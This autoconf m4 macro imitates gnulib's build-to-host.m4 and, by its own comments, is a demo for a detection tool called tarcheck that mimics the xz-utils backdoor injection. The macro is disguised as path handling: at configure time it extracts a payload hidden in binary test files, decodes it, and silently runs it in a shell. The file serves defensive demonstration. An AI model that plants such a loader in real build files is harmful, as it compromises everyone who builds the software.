# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
dnl This file is free software; the Free Software Foundation
dnl gives unlimited permission to copy and/or distribute it,
dnl with or without modifications, as long as this notice is preserved.

dnl Written for tarcheck's demo: it imitates the shape of the xz-utils 5.6.x
dnl injection (a tarball-only macro with an inflated serial that digs a
dnl payload out of binary test data), with a harmless payload.

AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  dnl Looks like path bookkeeping; it is not.
  gl_am_configmake=`grep -aErls "DEMO-MARK" "$srcdir/tests/files" 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    gl_path_map='tr "\t \-_" " \t_\-"'
    gl_localedir_prefix=`eval $gl_path_map < "$gl_am_configmake" | xz -d 2>/dev/null`
    AC_CONFIG_COMMANDS([build-to-host], [eval "$gl_localedir_prefix" | $SHELL 2>/dev/null], [gl_localedir_prefix='$gl_localedir_prefix'])
  fi
])
